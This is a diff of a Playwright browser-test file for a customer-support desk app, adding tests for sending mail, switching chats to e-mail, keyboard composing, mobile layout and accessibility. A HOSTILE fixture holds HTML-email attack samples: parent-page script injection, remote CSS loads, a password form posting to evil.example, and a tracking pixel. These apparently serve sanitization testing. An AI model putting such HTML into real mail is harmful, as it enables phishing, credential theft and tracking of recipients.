@@ -6,8 +6,10 @@ import re
 
 from playwright.sync_api import Route, expect
 
-from tests.browser.conftest import Stage
+from aspa.channels.email.sending.tests.peer import Peer, serving
+from tests.browser.conftest import Stage, Talk
 from tests.browser.mail import arrived
+from tests.browser.test_accessibility import check
 
 HOSTILE = """
 <script>parent.document.title = "taken"; document.body.textContent = "ran"</script>
@@ -17,6 +19,16 @@ HOSTILE = """
 <style>body { background: url(https://evil.example/css.png) } @import "https://evil.example/b.css";</style>
 <form action="https://evil.example/form"><input name="password"><button>Go on</button></form>
 <table><tr><td><b>Your order</b></td></tr></table><img data-remote-src="https://evil.example/pixel.png" alt="A hat">
+"""
+
+REMOTE = '<img data-remote-src="https://evil.example/pixel.png" alt="A hat">'
+TOLD = """
+import django; django.setup()
+from aspa.core.conversations.models import Conversation
+from aspa.core.people.models import Identity
+from aspa.kit import clock
+contact = Conversation.objects.get(pk={conversation}).contact
+Identity.objects.create(brand=contact.brand, contact=contact, kind="email", value="going@customer.example", created_at=clock.now())
 """
 
 
@@ -92,6 +104,8 @@ def test_copies_by_keyboard(stage: Stage) -> None:
     expect(ben.page.get_by_role("button", name=re.compile("^Send Ctrl"))).to_be_disabled()
     keys.press("Backspace")
     expect(chips).to_have_count(2)
+    ben.page.get_by_role("button", name="Remove boss@villa.example").click()
+    expect(chips).to_have_text(["gran@customer.example"])
     keys.press("Enter")
     expect(ben.text).to_be_focused()
     expect(ben.page.get_by_role("button", name=re.compile("^Send Ctrl"))).to_be_enabled()
@@ -101,7 +115,7 @@ def test_a_letter_for_later_waits_in_its_row_and_others_see_it(stage: Stage) -> 
     where = arrived(stage.server, {"text": "Tomorrow is fine"})
     ben, ada = stage.ben(where), stage.ada(where)
     ben.write("Good morning")
-    ben.page.get_by_role("button", name="When to send").click()
+    ben.page.get_by_role("button", name="Choose a day and a time…").click()
     ben.page.get_by_role("button", name=re.compile("Tomorrow morning")).click()
     expect(ben.log.locator(".held")).to_contain_text("Goes tomorrow at")
     expect(ada.log.locator(".held")).to_contain_text("Ben Berg sends this tomorrow at")
@@ -109,3 +123,84 @@ def test_a_letter_for_later_waits_in_its_row_and_others_see_it(stage: Stage) -> 
     ben.log.get_by_role("button", name="Take back").click()
     expect(ben.text).to_have_value("Good morning")
     expect(ada.log.locator(".held")).to_have_count(0)
+
+
+def test_a_letter_goes_out_and_comes_to_the_customer(stage: Stage) -> None:
+    peer = Peer()
+    with serving(peer):
+        where = arrived(
+            stage.server, {"text": "Please answer"}, smtp_host="127.0.0.1", smtp_port=peer.port, smtp_security="none"
+        )
+        ben = stage.ben(where)
+        ben.reply("Here is the answer")
+        expect(ben.log.locator(".held")).to_have_count(1)
+        # Ten seconds to take it back, and then it has gone.
+        expect(ben.log.locator(".held")).to_have_count(0, timeout=30_000)
+        expect(ben.message("Here is the answer")).to_be_visible()
+        expect(ben.log.locator("article.reply .state")).not_to_contain_text("on its way", timeout=20_000)
+    (mail,) = peer.mails
+    assert mail["To"] == "Dee Dahl <dee@customer.example>"
+    assert mail["Subject"] == "Re: My parcel"
+
+
+def test_a_chat_goes_on_by_mail(stage: Stage, talk: Talk) -> None:
+    _dee, ben = talk("Going soon")
+    stage.server.run("-c", TOLD.format(conversation=stage.conversation_of("Going soon")))
+    arrived(stage.server, {"text": "Makes the inbox"})
+    ben.page.reload()
+    ben.page.get_by_role("button", name=re.compile("^Chat, to")).click()
+    ben.page.get_by_role("button", name=re.compile("^E-mail Mail")).click()
+    expect(ben.page.locator("desk-recipients [data-to]")).to_contain_text("going@customer.example")
+    ben.reply("By mail then")
+    expect(ben.log.locator(".held")).to_contain_text("E-mail")
+    ben.log.get_by_role("button", name="Undo").click()
+    expect(ben.text).to_have_value("By mail then")
+    expect(ben.page.get_by_role("button", name=re.compile("^E-mail, to"))).to_be_visible()
+
+
+def test_a_new_letter_by_keyboard(stage: Stage) -> None:
+    arrived(stage.server, {"text": "Makes the inbox"})
+    ben = stage.ben("/desk/?view=all")
+    expect(ben.list).to_be_visible()
+    ben.page.keyboard.press("c")
+    dialog = ben.page.get_by_role("dialog")
+    expect(dialog.get_by_label("To", exact=True)).to_be_focused()
+    ben.page.keyboard.type("fia@customer.example")
+    dialog.get_by_label("Subject").fill("Your hat")
+    dialog.get_by_label("Letter").fill("It is ready.")
+    dialog.get_by_role("button", name="Send").click()
+    expect(ben.message("It is ready.")).to_be_visible()
+    expect(ben.head).to_contain_text("Your hat")
+
+
+def test_mail_on_a_phone_is_as_wide_as_the_phone(stage: Stage) -> None:
+    where = arrived(
+        stage.server,
+        {"text": "Wide", "html": "<table width=900><tr><td><b>Wide</b></td></tr></table>", "cc": [["g@x.example", ""]]},
+    )
+    ben = stage.ben(where, viewport={"width": 390, "height": 844})
+    expect(ben.page.frame_locator(".sheet-mail iframe").get_by_text("Wide")).to_be_visible()
+    assert ben.page.evaluate("document.documentElement.scrollWidth") <= 390
+    for part in (".sheet-mail", "desk-recipients", ".comp"):
+        box = ben.page.locator(part).bounding_box()
+        assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 390, part
+
+
+def test_nothing_is_wrong_with_letters_for_those_who_hear_the_screen(stage: Stage) -> None:
+    ben = stage.ben(
+        arrived(
+            stage.server,
+            {"text": "Plain", "verdict": "fail", "rest": "Quoted"},
+            {"text": "Rich", "html": "<h1>Rich</h1>" + REMOTE, "cc": [["gran@customer.example", ""]]},
+        )
+    )
+    ben.log.locator(".letter-head summary").first.click()
+    ben.log.locator(".rest summary").first.click()
+    expect(ben.log.get_by_text("Quoted", exact=True)).to_be_visible()
+    check(ben.page, "letters")
+    ben.reply("An answer")
+    expect(ben.log.locator(".held")).to_be_visible()
+    check(ben.page, "a held letter")
+    ben.page.get_by_role("button", name="Choose a day and a time…").click()
+    expect(ben.page.get_by_role("button", name=re.compile("Tomorrow morning"))).to_be_visible()
+    check(ben.page, "when to send")
